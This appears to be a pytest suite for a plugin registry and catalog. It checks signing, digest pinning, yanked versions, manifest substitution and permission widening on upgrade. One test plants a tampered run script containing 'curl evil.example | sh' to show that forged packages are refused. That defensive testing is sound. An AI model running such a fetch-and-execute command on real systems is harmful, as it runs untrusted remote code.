"""The catalog: installing from registries, what is refused, and what an upgrade changes."""

import shutil
from pathlib import Path

import attrs
import msgspec
import pytest
import sqlalchemy as sa
import yaml

from penstock.artifacts import open_store
from penstock.errors import AccessError, NotFoundError, PlatformError
from penstock.plugins.catalog import Catalog, locked_digest
from penstock.plugins.folder import open_folder
from penstock.plugins.installing import Installation, install_folder
from penstock.plugins.manifest import Manifest
from penstock.plugins.registries.describing import describe
from penstock.plugins.registries.folder import PACKAGE
from penstock.plugins.registries.known import add_registry
from penstock.plugins.registries.package import pack
from penstock.plugins.registries.signing import make_key, sign, trust
from penstock.settings import Settings
from tests.plugins.registries.conftest import Site, served_site

MANIFEST = {
    "name": "size",
    "version": "1.0.0",
    "kind": "report",
    "summary": "How large the code is",
    "maintainer": "The team <team@example.org>",
    "licence": "Apache-2.0",
    "command": ["./run"],
}


@pytest.fixture
def site(tmp_path: Path):
    """A registry whose packages are looked into as the real one does."""
    with served_site(tmp_path, describe) as site:
        yield site


@pytest.fixture
def catalog(settings: Settings, database: sa.Engine, site: Site) -> Catalog:
    """A platform that knows the registry."""
    near = attrs.evolve(settings, allow_private_hosts=("127.0.0.1",))
    add_registry(database, near, "hub", site.url, actor="ann")
    return Catalog(near, database, open_store(settings.artifacts_path))


def plugin_folder(place: Path, **more: object) -> Path:
    """A plugin with all that belongs to it."""
    values = {**MANIFEST, **more}
    folder = place / f"{values['name']}-{values['version']}-{len(list(place.iterdir()))}"
    (folder / "docs").mkdir(parents=True)
    (folder / "plugin.yaml").write_text(yaml.safe_dump(values))
    (folder / "README.md").write_text("# Size\nOne script that counts.\n")
    (folder / "docs" / "index.md").write_text("# Use\nName it in a step.\n")
    (folder / "run").write_text("#!/bin/sh\nexit 0\n")
    (folder / "run").chmod(0o755)
    return folder


def publish(site: Site, key: Path | None = None, **more: object) -> None:
    folder = plugin_folder(site.scratch, **more)
    packed = pack(folder, folder.with_suffix(".tar"))
    name, version = str({**MANIFEST, **more}["name"]), str({**MANIFEST, **more}["version"])
    signature = sign(key, name, version, packed.digest) if key else None
    site.remote().publish(name, version, packed.path, signature)


@pytest.fixture
def key(catalog: Catalog, tmp_path: Path) -> Path:
    """A private key whose public half is trusted."""
    trust(catalog.settings, make_key(tmp_path / "key", "the team"))
    return tmp_path / "key"


def test_signed_plugin_is_installed_and_locked(catalog: Catalog, site: Site, key: Path) -> None:
    """Found, fetched, checked and written down with its digest and who signed it."""
    publish(site, key)
    assert "size@1.0.0 of hub" in [f"{one} of {one.source}" for one in catalog.registries.search("large").entries]
    offer = catalog.offer("size")
    assert offer.signed_by is not None
    assert offer.signed_by.name == "the team"
    installed = catalog.install(offer, actor="ann")
    assert (installed.source, installed.state) == ("hub", "installed")
    assert locked_digest(catalog.database, "size", "1.0.0") == offer.entry.digest == f"sha256:{installed.digest}"
    assert catalog.store.has(installed.digest)


def test_unsigned_plugin_needs_somebody_who_says_so(catalog: Catalog, site: Site) -> None:
    """By default nothing is taken that nobody vouches for."""
    publish(site)
    offer = catalog.offer("size")
    with pytest.raises(AccessError, match="not signed"):
        catalog.install(offer, actor="ann")
    assert catalog.installed_of("size") == ()
    assert catalog.install(offer, actor="ann", unsigned=True).manifest.name == "size"


def test_signature_of_other_bytes_is_refused(catalog: Catalog, site: Site, key: Path) -> None:
    """Somebody who writes to the registry's disk cannot pass their files off as the team's."""
    publish(site, key)
    detail = site.folder.get("size", "1.0.0")
    folder = plugin_folder(site.scratch)
    (folder / "run").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    packed = pack(folder, site.folder.root / "size" / "1.0.0" / PACKAGE)
    entry = msgspec.structs.replace(detail.entry, digest=packed.digest, size_bytes=packed.size_bytes)
    (site.folder.root / "size" / "1.0.0" / "plugin.json").write_bytes(
        msgspec.json.encode(msgspec.structs.replace(detail, entry=entry))
    )
    with pytest.raises(AccessError, match="signature by the team is not of this package"):
        catalog.install(catalog.offer("size"), actor="ann")


def test_changed_bytes_under_the_old_digest_are_refused(catalog: Catalog, site: Site, key: Path) -> None:
    """The digest that was signed decides, not what arrives."""
    publish(site, key)
    offer = catalog.offer("size")
    (site.folder.root / "size" / "1.0.0" / PACKAGE).write_bytes(b"something else")
    with pytest.raises(AccessError, match="another digest"):
        catalog.install(offer, actor="ann")
    assert catalog.installed_of("size") == ()


def test_version_that_gets_another_digest_is_refused_for_ever(catalog: Catalog, site: Site, key: Path) -> None:
    """Also when it is signed, and was uninstalled meanwhile."""
    publish(site, key)
    catalog.install(catalog.offer("size"), actor="ann")
    shutil.rmtree(site.folder.root / "size")
    publish(site, key, summary="Something else now")
    for remote in catalog.registries.parts:
        if remote.name == "hub":
            remote.forget()  # type: ignore[attr-defined]
    with pytest.raises(AccessError, match="a version never changes"):
        catalog.install(catalog.offer("size"), actor="ann")


def test_yanked_version_is_passed_over_and_refused(catalog: Catalog, site: Site, key: Path) -> None:
    """The newest that is not yanked is offered; the yanked one by name is refused with its reason."""
    publish(site, key)
    publish(site, key, version="1.1.0")
    site.remote().yank("size", "1.1.0", "reads too much")
    assert catalog.offer("size").entry.version == "1.0.0"
    with pytest.raises(AccessError, match="reads too much"):
        catalog.install(catalog.offer("size", "1.1.0"), actor="ann")


def test_manifest_that_was_shown_is_the_one_that_is_installed(catalog: Catalog, site: Site) -> None:
    """A registry that shows a harmless manifest and sends another is found out."""
    publish(site)
    offer = catalog.offer("size")
    harmless = attrs.evolve(offer, manifest=Manifest.model_validate({**MANIFEST, "summary": "Harmless"}))
    with pytest.raises(AccessError, match="not the one that the registry shows"):
        catalog.install(harmless, actor="ann", unsigned=True)


def test_own_plugin_needs_no_signature(catalog: Catalog, tmp_path: Path) -> None:
    """What was installed from a folder of this machine is offered by the platform itself."""
    folder = plugin_folder(tmp_path, name="mine")
    install_folder(catalog.database, catalog.store, open_folder(folder), Installation("local", "ann"))
    offer = catalog.offer("mine")
    assert (offer.entry.source, offer.unsigned) == ("local", None)
    assert catalog.install(offer, actor="ann").manifest.name == "mine"


def test_registry_that_is_away_is_told_of(catalog: Catalog, site: Site) -> None:
    """The platform's own plugins are shown all the same."""
    site.stop()
    site.thread.join(20)
    found = catalog.registries.search()
    assert [trouble.registry for trouble in found.troubles] == ["hub"]
    with pytest.raises(PlatformError, match="does not answer"):
        catalog.offer("size")
    with pytest.raises(NotFoundError, match="no registry is called"):
        catalog.offer("size", registry="moon")


def test_upgrade_shows_what_it_may_do_more(catalog: Catalog, site: Site) -> None:
    """New secrets, hosts and plugins to read come first; inputs that must be given are named."""
    old = {
        "inputs": {"properties": {"limit": {"type": "integer"}, "old": {"type": "string"}}},
        "network": ["a.example"],
        "secrets": [{"name": "TOKEN", "why": "to ask"}],
    }
    new = {
        "version": "2.0.0",
        "inputs": {"properties": {"limit": {"type": "number"}, "path": {"type": "string"}}, "required": ["path"]},
        "network": ["a.example", "b.example"],
        "secrets": [{"name": "KEY", "why": "to sign"}],
        "reads": ["*"],
        "licence": "MIT",
    }
    publish(site, **old)
    publish(site, **new)
    before = catalog.install(catalog.offer("size", "1.0.0"), actor="ann", unsigned=True)
    changes = catalog.changes(before.manifest, catalog.offer("size"))
    assert [(one.part, one.what) for one in changes if one.widens] == [
        ("secrets", "+ KEY: to sign"),
        ("network", "+ b.example"),
        ("reads", "+ *"),
    ]
    assert [(one.part, one.what) for one in changes if not one.widens] == [
        ("inputs", "limit takes other values"),
        ("inputs", "- old"),
        ("inputs", "+ path, which must be given"),
        ("secrets", "- TOKEN"),
        ("licence", "Apache-2.0 → MIT"),
    ]
